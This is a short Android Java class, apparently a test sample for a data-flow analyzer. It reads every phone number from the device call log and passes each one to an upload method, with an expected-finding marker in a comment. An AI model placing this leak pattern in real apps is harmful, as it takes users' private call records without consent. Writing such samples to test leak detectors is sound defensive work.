package com.example.flow;

import android.content.Intent;
import android.database.Cursor;
import android.provider.CallLog;

/** The call log is not messages. */
public class CallLogQuery extends FlowService {
  @Override
  void run(Intent intent) throws Exception {
    Cursor cursor = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
    while (cursor.moveToNext()) {
      upload(cursor.getString(cursor.getColumnIndex("number"))); // expect 301
    }
    cursor.close();
  }
}
